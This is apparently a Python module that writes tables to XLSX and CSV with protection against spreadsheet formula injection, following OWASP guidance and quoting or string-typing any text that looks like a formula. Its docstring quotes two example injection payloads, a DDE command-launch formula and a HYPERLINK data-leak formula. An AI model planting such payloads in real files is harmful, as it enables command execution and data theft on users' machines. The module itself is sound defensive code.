"""Tables written for Excel and WPS: text from a data file is never a formula.

A 台账 cell or an attribute holding `=HYPERLINK("http://…"&A1,"点此查看")` or
`=cmd|' /C calc'!A0` would run when the planner opens the file. So:

- XLSX: every text cell is written as a string (openpyxl's data_type "s",
  never "f"), with Excel's quote-prefix style where it begins like a formula,
  so editing the cell keeps it text. Numbers stay numbers.
- CSV, as OWASP's CSV Injection guidance says: a text field that begins
  with = + - @, a tab or a carriage return (after any leading blanks, which
  some spreadsheets trim) gets a single quote in front, and every text field
  is quoted. Numeric columns are written as plain numbers. Text that is
  itself a plain number ("-5", "+3.2") or a lone "-" (a ledger's "none")
  is left alone: a spreadsheet reads it as that number or that dash, never
  as a formula.

The quote is added reversibly: text that already begins with quotes before
a formula character gets one more, so `unguard` gives back exactly what was
written, and the app reads its own CSV back with the same text.
"""
from __future__ import annotations

import csv
import datetime as dt
import math
import re
from pathlib import Path

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")
# XML 1.0 (so XLSX) cannot hold these; openpyxl refuses them.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _formula_like(text: str) -> bool:
    if text.startswith(CONTROL_STARTS):
        return True
    stripped = text.lstrip()
    if not stripped.startswith(FORMULA_STARTS):
        return False
    return not (_PLAIN_NUMBER.fullmatch(stripped) or stripped == "-")


def needs_guard(text: str) -> bool:
    """Would a spreadsheet take this text for a formula (or is it one of our guarded forms)?"""
    while True:
        if _formula_like(text):
            return True
        if not text.startswith("'"):
            return False
        text = text[1:]


def guard(text: str) -> str:
    """The text with a single quote in front where a spreadsheet would see a formula."""
    return "'" + text if needs_guard(text) else text


def unguard(text: str) -> str:
    """`guard` undone: what the app reads back from a CSV it wrote."""
    if text.startswith("'") and needs_guard(text[1:]):
        return text[1:]
    return text


def _is_number(value) -> bool:
    return isinstance(value, (int, float)) or (hasattr(value, "dtype") and getattr(value.dtype, "kind", "") in "biuf")


def _numeric_column(series: pd.Series) -> bool:
    return (pd.api.types.is_numeric_dtype(series) and not pd.api.types.is_object_dtype(series)) \
        or pd.api.types.is_datetime64_any_dtype(series)


def _blank(value) -> bool:
    return value is None or (isinstance(value, float) and math.isnan(value)) or value is pd.NA or value is pd.NaT


def _csv_value(value):
    if _blank(value) or isinstance(value, bool) or _is_number(value):
        return value
    return guard(str(value))


def csv_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text value and header guarded; numeric columns untouched."""
    out = pd.DataFrame(index=table.index)
    for position, column in enumerate(table.columns):
        series = table.iloc[:, position]
        values = series if _numeric_column(series) else series.astype(object).map(_csv_value)
        out.insert(position, guard(str(column)), values, allow_duplicates=True)
    return out


def write_csv(table: pd.DataFrame, path) -> None:
    """UTF-8 with a BOM (Excel's way to tell UTF-8), every text field quoted and guarded."""
    csv_frame(table).to_csv(path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_NONNUMERIC)


def unguard_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A CSV read as text (dtype=str), with the guards `write_csv` adds taken off."""
    table = table.copy()
    table.columns = [unguard(c) if isinstance(c, str) else c for c in table.columns]
    for position in range(table.shape[1]):
        series = table.iloc[:, position]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            table.isetitem(position, series.map(lambda v: unguard(v) if isinstance(v, str) else v))
    return table


def _xlsx_text(value: str) -> str:
    return _ILLEGAL_XML.sub("\ufffd", value)  # a control character XLSX cannot hold is shown, not dropped silently


def _xlsx_value(value):
    """(value, is_text) for one cell."""
    if _blank(value):
        return None, False
    if isinstance(value, bool):
        return value, False
    if _is_number(value):
        number = value.item() if hasattr(value, "item") else value
        if isinstance(number, float) and not math.isfinite(number):
            return str(number), True  # Excel has no ∞ or NaN number
        return number, False
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, (dt.datetime, dt.time)) and value.tzinfo is None or \
            (isinstance(value, dt.date) and not isinstance(value, dt.datetime)):
        return value, False
    return _xlsx_text(str(value)), True


def write_xlsx(table: pd.DataFrame, path, sheet_name: str = "Sheet1") -> None:
    """One sheet: a bold header row, then the rows; text cells are strings, never formulas."""
    write_xlsx_sheets({sheet_name: table}, path)


def write_xlsx_sheets(tables: dict[str, pd.DataFrame], path) -> None:
    """A workbook of several sheets, each written as `write_xlsx` writes one."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for name, table in tables.items():
        _fill_sheet(book.create_sheet(name), table)
    book.save(Path(path))


def _fill_sheet(sheet, table: pd.DataFrame) -> None:
    from openpyxl.styles import Font

    bold = Font(bold=True)

    def put(row: int, col: int, value) -> None:
        value, is_text = _xlsx_value(value)
        cell = sheet.cell(row=row, column=col)
        cell.value = value
        if is_text:
            cell.data_type = "s"  # openpyxl makes any text beginning with "=" a formula ("f")
            if needs_guard(value):
                cell.quotePrefix = True  # Excel's own "this is text" mark: editing the cell keeps it text
        if row == 1:
            cell.font = bold

    for col, column in enumerate(table.columns, start=1):
        put(1, col, str(column))
    for row, values in enumerate(table.itertuples(index=False, name=None), start=2):
        for col, value in enumerate(values, start=1):
            put(row, col, value)
